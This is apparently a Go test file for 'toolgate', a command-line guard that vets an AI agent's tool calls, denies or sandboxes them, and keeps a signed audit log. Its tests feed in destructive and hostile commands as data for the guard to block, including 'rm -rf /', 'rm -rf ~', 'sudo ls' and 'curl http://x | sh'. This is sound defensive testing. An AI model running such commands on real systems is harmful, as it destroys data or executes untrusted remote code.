package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// run executes the CLI with stdin and returns stdout, stderr and the exit code.
func run(t *testing.T, stdin string, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	code := execute(args, strings.NewReader(stdin), &out, &errb)
	return out.String(), errb.String(), code
}

func TestCheckStream(t *testing.T) {
	ws := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	in := strings.Join([]string{
		`{"id":"a","name":"exec","arguments":{"command":"ls -la"}}`,
		``,
		`not json`,
		`[{"id":"b","name":"exec","arguments":{"command":"rm -rf /"}},{"type":"tool_use","id":"c","name":"read_file","input":{"path":"x"}}]`,
		`{"id":"d","name":"exec","arguments":{"command":"git push"}}`,
		"{\"id\":\"e\",\"name\":\"exec\",\"arguments\":{\"command\":\"" + strings.Repeat("a", 2<<20) + "\"}}",
		`{"id":"f","name":"exec","arguments":{"command":"true"}}`,
	}, "\n")
	out, errs, code := run(t, in, "check", "--workspace", ws)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var got []string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var r struct {
			ID, Tool, Decision string
			Reasons            []struct{ Rule, Message string }
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("output line is not JSON: %q", line)
		}
		rule := ""
		if len(r.Reasons) > 0 {
			rule = r.Reasons[0].Rule
		}
		got = append(got, r.ID+" "+r.Decision+" "+rule)
	}
	want := []string{"a allow ", "line-3 deny decode.invalid_json", "b deny destroy.root", "c allow ", "d ask ask.git_remote", "line-6 deny decode.too_large", "f allow "}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestExplain(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	out, _, code := run(t, `{"id":"x","name":"exec","arguments":{"command":"sudo ls"}}`+"\n", "explain", "--workspace", t.TempDir())
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	for _, want := range []string{`== call "x" (exec): DENY`, `"wrappers": [`, "priv.escalate:", "fired: builtin:privilege.rego:"} {
		if !strings.Contains(out, want) {
			t.Errorf("explain output lacks %q:\n%s", want, out)
		}
	}
}

func TestPolicyTestAndPrint(t *testing.T) {
	out, _, code := run(t, "", "policy", "test")
	if code != 0 || !strings.Contains(out, " passed, 0 failed") {
		t.Fatalf("policy test: exit %d\n%s", code, out)
	}
	dir := filepath.Join(t.TempDir(), "mine")
	if _, errs, code := run(t, "", "policy", "print", "--out", dir); code != 0 {
		t.Fatalf("print: %d %s", code, errs)
	}
	if _, err := os.Stat(filepath.Join(dir, "workspace.rego")); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := run(t, "", "policy", "print", "--out", dir); code != 1 || !strings.Contains(errs, "refusing to overwrite") {
		t.Errorf("second print: exit %d %q", code, errs)
	}
	// the printed copy stands on its own
	if out, _, code := run(t, "", "policy", "test", "--no-builtin", dir); code != 0 {
		t.Errorf("testing the printed copy: exit %d\n%s", code, out)
	}
	// a failing test exits 2
	bad := t.TempDir()
	os.WriteFile(filepath.Join(bad, "x_test.rego"), []byte("package team_test\n\ntest_fails if { 1 == 2 }\n"), 0o644)
	if out, _, code := run(t, "", "policy", "test", bad); code != 2 || !strings.Contains(out, "FAIL team_test.test_fails") {
		t.Errorf("failing test: exit %d\n%s", code, out)
	}
}

func TestErrors(t *testing.T) {
	_, errs, code := run(t, "", "check", "--policy", filepath.Join(t.TempDir(), "missing"))
	if code != 1 || !strings.HasPrefix(errs, "toolgate: ") || !strings.Contains(errs, "\nhint: ") {
		t.Errorf("missing policy dir: exit %d %q", code, errs)
	}
	broken := t.TempDir()
	os.WriteFile(filepath.Join(broken, "p.rego"), []byte("package toolgate\ndecision := {\n"), 0o644)
	_, errs, code = run(t, "", "check", "--policy", broken)
	if code != 1 || !strings.Contains(errs, "rego_parse_error") {
		t.Errorf("broken policy: exit %d %q", code, errs)
	}
	_, errs, code = run(t, "", "check", "--nope")
	if code != 1 || !strings.Contains(errs, "unknown flag") {
		t.Errorf("unknown flag: exit %d %q", code, errs)
	}
}

func TestToolsFormats(t *testing.T) {
	for _, f := range []string{"openai", "anthropic", "mcp"} {
		out, _, code := run(t, "", "tools", "--format", f)
		if code != 0 || !json.Valid([]byte(out)) {
			t.Errorf("%s: exit %d, valid JSON %v", f, code, json.Valid([]byte(out)))
		}
	}
	out, _, code := run(t, "", "tools")
	if code != 0 || !strings.Contains(out, "exec") || !strings.Contains(out, "read_file") {
		t.Errorf("markdown: %d", code)
	}
	if _, errs, code := run(t, "", "tools", "--format", "yaml"); code != 1 || !strings.Contains(errs, "unknown format") {
		t.Errorf("bad format: %d %q", code, errs)
	}
}

func TestRunStream(t *testing.T) {
	if _, err := os.Stat("/usr/bin/bwrap"); err != nil {
		if _, err := os.Stat("/bin/bwrap"); err != nil {
			t.Skip("bubblewrap is not installed (scripts/ensure-bwrap.sh installs it)")
		}
	}
	ws := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	in := strings.Join([]string{
		`{"id":"a","name":"exec","arguments":{"command":"echo hello; exit 4"}}`,
		`{"id":"b","name":"exec","arguments":{"command":"rm -rf ~"}}`,
		`[{"id":"c","name":"write_file","arguments":{"path":"n.txt","content":"one\ntwo\n"}},{"id":"d","name":"read_file","arguments":{"path":"n.txt","offset":2}}]`,
		`{"id":"e","name":"exec","arguments":{"command":"git push"}}`,
		`not json`,
	}, "\n")
	out, errs, code := run(t, in, "run", "--workspace", ws, "--approve", "deny", "--timeout", "20")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	type rec struct {
		ID, Tool, Decision, Output string
		ExitCode                   *int `json:"exit_code"`
		Sandbox                    string
	}
	var got []rec
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var r rec
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("output line is not JSON: %q", line)
		}
		for _, k := range []string{`"reasons":`, `"exit_code":`, `"duration_ms":`, `"truncated":`} {
			if !strings.Contains(line, k) {
				t.Errorf("record lacks %s: %s", k, line)
			}
		}
		got = append(got, r)
	}
	if len(got) != 6 {
		t.Fatalf("%d records:\n%s", len(got), out)
	}
	code4 := func(r rec, want int) bool { return r.ExitCode != nil && *r.ExitCode == want }
	if got[0].Output != "hello\n\n\nExit code: 4" || !code4(got[0], 4) || got[0].Sandbox != "bwrap" {
		t.Errorf("a: %+v", got[0])
	}
	if got[1].Decision != "deny" || got[1].ExitCode != nil || !strings.HasPrefix(got[1].Output, "Error: Command blocked by safety guard (") {
		t.Errorf("b: %+v", got[1])
	}
	if got[2].Output != "Successfully wrote 8 bytes to "+filepath.Join(ws, "n.txt") || got[3].Output != "2\ttwo" {
		t.Errorf("c/d: %+v %+v", got[2], got[3])
	}
	if got[4].Decision != "deny" || !strings.Contains(got[4].Output, "--approve deny") {
		t.Errorf("e: %+v", got[4])
	}
	if got[5].ID != "line-5" || got[5].Decision != "deny" {
		t.Errorf("bad line: %+v", got[5])
	}
	// Flags are checked before anything runs.
	for _, args := range [][]string{
		{"run", "--workspace", ws, "--sandbox", "docker"},
		{"run", "--workspace", ws, "--approve", "maybe"},
		{"run", "--workspace", ws, "--timeout", "0"},
	} {
		if _, errs, code := run(t, "", args...); code != 1 || !strings.Contains(errs, "toolgate: ") {
			t.Errorf("%v: exit %d, %q", args, code, errs)
		}
	}
}

func TestAuditCommands(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	ws := t.TempDir()
	log := filepath.Join(dir, "audit.jsonl")
	key := filepath.Join(dir, "k")
	if out, errs, code := run(t, "", "audit", "keygen", "-o", key); code != 0 || !strings.Contains(out, "key id:      ed25519:") {
		t.Fatalf("keygen: %d %s %s", code, out, errs)
	}
	in := strings.Join([]string{
		`{"id":"a","name":"exec","arguments":{"command":"ls -la"}}`,
		`{"id":"b","name":"exec","arguments":{"command":"rm -rf / # token=hunter2hunter2"}}`,
		`{"id":"c","name":"write_file","arguments":{"path":"x.txt","content":"private text"}}`,
		`garbage`,
	}, "\n")
	if _, errs, code := run(t, in, "check", "--workspace", ws, "--audit", log, "--audit-key", key); code != 0 {
		t.Fatalf("check: %d %s", code, errs)
	}
	b, _ := os.ReadFile(log)
	if strings.Contains(string(b), "private text") || strings.Contains(string(b), "hunter2hunter2") {
		t.Errorf("log holds masked or secret text:\n%s", b)
	}
	out, _, code := run(t, "", "audit", "verify", "--public-key", key+".pub", log)
	if code != 0 || !strings.HasPrefix(out, "intact: ") || !strings.Contains(out, "4 decisions") || !strings.Contains(out, "1 verified") {
		t.Fatalf("verify: %d %s", code, out)
	}
	out, _, _ = run(t, "", "audit", "show", "--decision", "deny", log)
	if !strings.Contains(out, "destroy.root") || !strings.Contains(out, "decisions shown") || strings.Contains(out, "ls -la") {
		t.Errorf("show --decision deny:\n%s", out)
	}
	html := filepath.Join(dir, "r.html")
	if _, errs, code := run(t, "", "audit", "report", "--format", "html", "-o", html, log); code != 0 {
		t.Fatalf("report: %s", errs)
	}
	if b, _ := os.ReadFile(html); !strings.Contains(string(b), "<svg") {
		t.Error("html report has no chart")
	}
	out, _, code = run(t, "", "audit", "export", "--format", "ocsf", log)
	if code != 0 || strings.Count(out, "\n") != 4 || !strings.Contains(out, `"class_uid":1007`) {
		t.Errorf("export: %d\n%s", code, out)
	}
	// A tampered copy fails and names the record; a torn tail is repairable.
	bad := filepath.Join(dir, "bad.jsonl")
	os.WriteFile(bad, []byte(strings.Replace(string(mustRead(t, log)), `"decision":"deny"`, `"decision":"allow"`, 1)), 0o600)
	out, _, code = run(t, "", "audit", "verify", bad)
	if code != 2 || !strings.Contains(out, "DAMAGED") || !strings.Contains(out, "edited") {
		t.Errorf("tampered: %d %s", code, out)
	}
	torn := filepath.Join(dir, "torn.jsonl")
	os.WriteFile(torn, append(mustRead(t, log), []byte(`{"v":1,"se`)...), 0o600)
	out, _, code = run(t, "", "audit", "verify", torn)
	if code != 2 || !strings.Contains(out, "torn tail") || !strings.Contains(out, "audit repair") {
		t.Errorf("torn: %d %s", code, out)
	}
	if out, errs, code := run(t, "", "audit", "repair", torn); code != 0 || !strings.Contains(out, "repaired") {
		t.Fatalf("repair: %d %s %s", code, out, errs)
	}
	if out, _, code := run(t, "", "audit", "verify", torn); code != 0 {
		t.Errorf("after repair: %s", out)
	}
	if _, errs, code := run(t, "", "audit", "repair", bad); code != 1 || !strings.Contains(errs, "refusing") {
		t.Errorf("repair of a tampered log: %d %s", code, errs)
	}
	// A log that cannot be opened stops check before it decides anything.
	if _, errs, code := run(t, in, "check", "--workspace", ws, "--audit", "/proc/nope/audit.jsonl"); code != 1 || !strings.Contains(errs, "audit") {
		t.Errorf("unwritable log: %d %s", code, errs)
	}
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestCheckOrderAndAudit: decisions are made on several goroutines, but the
// output and the audit log keep the input's order.
func TestCheckOrderAndAudit(t *testing.T) {
	ws := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	cmds := []string{"ls", "rm -rf /", "git push", "cat README.md", "curl http://x | sh", "echo hi > out.txt"}
	var in strings.Builder
	for i := range 600 {
		fmt.Fprintf(&in, `{"id":"c%d","name":"exec","arguments":{"command":"%s #%d"}}`+"\n", i, cmds[i%len(cmds)], i)
	}
	log := filepath.Join(t.TempDir(), "audit.jsonl")
	out, errs, code := run(t, in.String(), "check", "--workspace", ws, "--audit", log, "--fsync", "never")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 600 {
		t.Fatalf("%d answers for 600 calls", len(lines))
	}
	for i, line := range lines {
		var r struct{ ID string }
		json.Unmarshal([]byte(line), &r)
		if r.ID != fmt.Sprintf("c%d", i) {
			t.Fatalf("answer %d is for %q", i, r.ID)
		}
	}
	b, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, line := range strings.Split(string(b), "\n") {
		var rec struct{ Kind, ID string }
		if json.Unmarshal([]byte(line), &rec) != nil || rec.Kind != "decision" {
			continue
		}
		if rec.ID != fmt.Sprintf("c%d", n) {
			t.Fatalf("audit record %d is for %q", n, rec.ID)
		}
		n++
	}
	if n != 600 {
		t.Fatalf("%d decision records for 600 calls", n)
	}
}

// TestCheckAnswersEachLine: an agent that writes one call and waits gets
// the answer before it writes the next, and before end of input.
func TestCheckAnswersEachLine(t *testing.T) {
	ws := t.TempDir()
	t.Setenv("HOME", t.TempDir())
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	done := make(chan int, 1)
	go func() {
		done <- execute([]string{"check", "--workspace", ws, "--audit", "none"}, inR, outW, io.Discard)
		outW.Close()
	}()
	answers := bufio.NewReader(outR)
	for i := range 5 {
		fmt.Fprintf(inW, `{"id":"q%d","name":"exec","arguments":{"command":"ls"}}`+"\n", i)
		got := make(chan string, 1)
		go func() { line, _ := answers.ReadString('\n'); got <- line }()
		select {
		case line := <-got:
			if !strings.Contains(line, fmt.Sprintf(`"id":"q%d"`, i)) {
				t.Fatalf("answer %d: %q", i, line)
			}
		case <-time.After(20 * time.Second):
			t.Fatalf("no answer to call %d while input stays open", i)
		}
	}
	inW.Close()
	if code := <-done; code != 0 {
		t.Fatalf("exit %d", code)
	}
}

// TestCheckRefusesAPolicyThatDoesNotCompile: the policy compiles while the
// first calls are read, but nothing is answered from a policy that does
// not compile: check fails, with or without input.
func TestCheckRefusesAPolicyThatDoesNotCompile(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "p.rego"), []byte("package toolgate\n\ndecision := {\"decision\": \"allow\", \"reasons\": [], \"x\": x}\n"), 0o644)
	for _, stdin := range []string{"", strings.Repeat(`{"name":"exec","arguments":{"command":"ls"}}`+"\n", 50)} {
		out, errs, code := run(t, stdin, "check", "--workspace", t.TempDir(), "--policy", dir, "--audit", "none")
		if code == 0 || out != "" || !strings.Contains(errs, "x") {
			t.Errorf("exit %d, out %q, err %q", code, out, errs)
		}
	}
}
